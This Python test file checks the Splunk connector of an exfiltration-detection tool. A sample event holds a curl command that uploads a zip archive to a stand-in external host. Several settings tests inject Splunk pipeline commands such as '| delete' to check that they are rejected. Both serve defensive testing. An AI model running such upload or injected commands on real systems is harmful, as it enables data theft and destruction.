"""Splunk against a server that answers as its documentation says."""

import asyncio
import json
from typing import Any

import pytest

from exfilwatch.detection.load import load
from exfilwatch.errors import ConfigError, SourceError
from exfilwatch.rules.packs import pack
from exfilwatch.siem.registry import open_siem
from exfilwatch.siem.siem import Ask, Clock, Near, Place, Siem
from exfilwatch.siem.splunk import Splunk
from exfilwatch.siem.splunk_settings import SplunkSettings

from .fake_splunk import FakeSplunk
from .fetching import Naps, S, all_of, events, fetched, run
from .loopback import answer_json
from .splunk_samples import T0, both, client, record


@pytest.fixture
def splunk():
    with FakeSplunk() as server:
        yield server


@both
def test_the_records_of_an_interval_become_events(splunk, stream):
    splunk.records = [record(T0 + n / 4, T0 + n) for n in range(10)]
    (event,) = events(fetched(client(splunk, stream=stream), (T0 + 4) * S, (T0 + 5) * S))
    assert event.fields["CommandLine"] == "curl.exe -T a.zip https://x.example/"
    assert (event.category, event.host) == ("process_creation", "WS1.corp.example")
    assert (event.time, event.ingest_time) == ((T0 + 1) * S, (T0 + 4) * S)


@both
@pytest.mark.parametrize(("clock", "step"), [(Clock.INGEST, S), (Clock.EVENT, S // 8)])
def test_intervals_that_meet_share_nothing_and_leave_nothing_out(splunk, stream, clock, step):
    splunk.records = [record(T0 + n / 16, T0 + n, n=n) for n in range(16)]
    got = []
    for start in range(T0 * S, T0 * S + 16 * step, step):
        got += fetched(client(splunk, stream=stream), start, start + step, clock=clock)
    assert sorted(int(each["n"]) for each in got) == list(range(16))


def test_events_of_any_age_come_by_the_time_they_were_indexed(splunk):
    splunk.records = [record(0, T0), record(T0 + 400 * 86_400, T0)]
    assert len(fetched(client(splunk), T0 * S, (T0 + 1) * S)) == 2


def test_a_reach_bounds_what_splunk_has_to_look_through(splunk):
    splunk.records = [record(T0 - 90_000, T0), record(T0 - 80_000, T0)]
    assert len(fetched(client(splunk, reach="1d"), T0 * S, (T0 + 1) * S)) == 1
    assert splunk.requests[0].form["earliest_time"] == f"{T0 - 86_400}.000000"


@both
def test_an_empty_interval_has_no_records(splunk, stream):
    assert fetched(client(splunk, stream=stream), T0 * S, (T0 + 1) * S) == []


def test_results_come_page_by_page(splunk):
    splunk.records = [record(n=n) for n in range(25)]
    splunk.maxresultrows = 7  # less than is asked for
    got = fetched(client(splunk, page=10))
    assert sorted(int(each["n"]) for each in got) == list(range(25))
    asked = [request.query["offset"] for request in splunk.requests if request.path.endswith("/results")]
    assert asked == ["0", "7", "14", "21"]


def test_a_job_is_asked_for_at_growing_intervals_until_it_is_done(splunk):
    splunk.records, splunk.looks_until_done, naps = [record()], 20, Naps()
    assert len(fetched(client(splunk, naps))) == 1
    assert naps.naps == sorted(naps.naps)
    assert naps.naps[-1] == 2.0


def test_a_job_is_cancelled_when_nobody_reads_on(splunk):
    splunk.records = [record(n=n) for n in range(10)]
    siem = client(splunk, page=2)

    async def first() -> int:
        batches = siem.fetch(Ask(Clock.INGEST))
        batch = await anext(batches)
        assert len(splunk.jobs) == 1
        await batches.aclose()  # type: ignore[attr-defined]
        return len(batch)

    assert run(siem, first()) == 2
    assert splunk.jobs == {}


def test_a_job_is_cancelled_when_its_reader_is(splunk):
    splunk.looks_until_done = 10**6
    looked = asyncio.Event()

    async def nap(_seconds: float) -> None:
        looked.set()
        await asyncio.Event().wait()

    siem = Splunk("corp", client(splunk).settings, sleep=nap)  # type: ignore[arg-type]

    async def cancelled() -> None:
        reading = asyncio.create_task(all_of(siem, Ask(Clock.INGEST)))
        await looked.wait()
        reading.cancel()
        with pytest.raises(asyncio.CancelledError):
            await reading

    run(siem, cancelled())
    assert splunk.jobs == {}
    assert splunk.requests[-1].form["action"] == "cancel"


def test_searches_that_run_at_once_are_bounded_but_not_those_that_are_read(splunk):
    splunk.records, splunk.quota, splunk.looks_until_done = [record(n=n) for n in range(4)], 1, 3
    siem = client(splunk, at_once=1, page=2)

    async def nested() -> int:
        count = 0
        async for batch in siem.fetch(Ask(Clock.INGEST)):
            count += len(batch) + len(await all_of(siem, Ask(Clock.INGEST)))
        return count

    assert run(siem, nested()) == 4 + 2 * 4


def test_places_are_the_indexes_and_what_is_wrong_with_them(splunk):
    splunk.now = T0 + 100.0
    splunk.records = [record(), record(T0 + 5), record(index="win_dc"), record(T0 - 40 * 86_400, index="old")]
    siem = client(splunk, indexes=("windows", "win_*", "old"))
    splunk.selects = lambda _search, _record: True
    places = run(siem, siem.places())
    assert places[0] == Place("windows", 2, (T0 + 5) * S)
    assert [place.name for place in places if place.problem] == ["win_*", "old"]
    assert "srchIndexesAllowed" in places[-1].problem


def test_its_clock_is_splunks(splunk):
    splunk.now = T0 + 0.7
    siem = client(splunk)
    assert run(siem, siem.now()) == T0 * S


def test_user_and_password_do_as_well_as_a_token(splunk):
    splunk.answer = lambda request: answer_json({"seen": request.headers["authorization"]}, 400)
    siem = client(splunk, token=None, user="poller", password="hunter2")
    with pytest.raises(SourceError) as error:
        run(siem, siem.now())
    assert "hunter2" not in str(error.value)
    assert splunk.requests[0].headers["authorization"].startswith("Basic ")


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"token": None}, "give token, or user and password"),
        ({"user": "a", "password": "b"}, "give token, or user and password"),
        ({"token": "two\nlines"}, "token: has characters"),
        ({"indexes": []}, "indexes"),
        ({"search": "a | delete"}, "search: give a condition"),
        ({"search": 'a "b'}, "search: give a condition"),
        ({"fields": ["a | delete"]}, "fields: give names"),
        ({"page": 60_000}, "page"),
        ({"index": "main"}, "index: there is no such setting"),
    ],
)
def test_settings_that_are_wrong_are_told_by_name(change, said):
    configured = {
        "kind": "splunk",
        "url": "https://splunk.example:8089",
        "token": "s3cr3t",
        "indexes": ["main"],
        **change,
    }
    with pytest.raises(ConfigError, match=said) as error:
        open_siem("corp", configured)
    assert "s3cr3t" not in str(error.value)


def test_it_is_a_siem_and_lists_may_have_commas():
    configured = {"kind": "splunk", "url": "https://splunk.example:8089", "token": "s3cr3t", "indexes": "main, win_*"}
    siem = open_siem("corp", configured)
    assert isinstance(siem, Siem)
    assert siem.settings.indexes == ("main", "win_*")  # type: ignore[attr-defined]
    assert "s3cr3t" not in repr(siem.settings)
    asyncio.run(siem.close())


def test_rules_are_asked_for_as_pushdown_says(splunk, monkeypatch):
    monkeypatch.setattr("exfilwatch.siem.queries.splunk.condition", lambda rules: f"c={len(rules)}")
    monkeypatch.setattr("exfilwatch.siem.queries.splunk.score", lambda _rule: "| where s>5")
    rules: Any = ("one", "two")
    expected = {"off": [""], "candidates": ["| where c=2 "], "score": ["| where c=1 | where s>5 "] * 2}
    for pushdown, selections in expected.items():
        splunk.searches.clear()
        fetched(client(splunk, pushdown=pushdown), rules=rules)
        assert splunk.searches == [
            f'search (index="windows") {each}| fields *, _raw, _time, _indextime, _cd, host, source, sourcetype, index'
            for each in selections
        ]


def test_the_query_is_what_a_person_would_paste():
    settings = {
        "url": "https://s.example",
        "token": "t",
        "indexes": ("a", "b"),
        "sourcetypes": ("xml",),
        "fields": ("_x",),
    }
    siem = Splunk("corp", SplunkSettings.model_validate({**settings, "search": "host=srv*"}))
    assert siem.query([]).startswith('search (index="a" OR index="b") (sourcetype="xml") (host=srv*) | where ')


def test_a_near_search_is_bounded_by_its_spans(splunk):
    near = (Near("WS1", T0 * S, (T0 + 60) * S), Near("WS2", (T0 + 9) * S, (T0 + 90) * S))
    fetched(client(splunk), near=near)
    form = splunk.requests[0].form
    assert (form["earliest_time"], form["latest_time"]) == (f"{T0}.000000", f"{T0 + 90}.001000")
    assert json.dumps("ws1") in form["search"]


@both
def test_the_searches_of_our_rules_are_taken(splunk, stream):
    splunk.records = [record()]
    rules = load([pack("exfil")]).rules
    for pushdown in ("candidates", "score"):
        assert fetched(client(splunk, stream=stream, pushdown=pushdown), rules=rules, near=(Near('a"', 0, 2**51),))
